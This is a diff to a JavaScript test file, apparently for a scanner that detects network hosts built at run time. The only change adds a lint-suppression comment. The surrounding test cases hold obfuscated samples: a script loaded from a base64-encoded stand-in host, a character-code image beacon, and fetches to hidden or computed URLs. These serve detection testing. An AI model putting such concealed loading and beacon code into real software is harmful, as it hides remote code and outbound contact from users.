@@ -124,6 +124,7 @@ describe('hosts built at run time', () => {
     ['the page’s address', 'fetch(location.hash.slice(1))', 'connection'],
     ['base64', 'var s = document.createElement("script"); s.src = atob("aHR0cHM6Ly94LmV4YW1wbGU=")', 'script'],
     ['character codes', 'new Image().src = String.fromCharCode(104, 116, 116, 112)', 'image'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the code under review
     ['a template literal', 'fetch(`https://${h}.example/`)', 'connection'],
     ['a joined list', 'fetch(["https:", "", "x.example"].join("/"))', 'connection'],
     ['a navigation', 'location.href = next', 'navigation'],
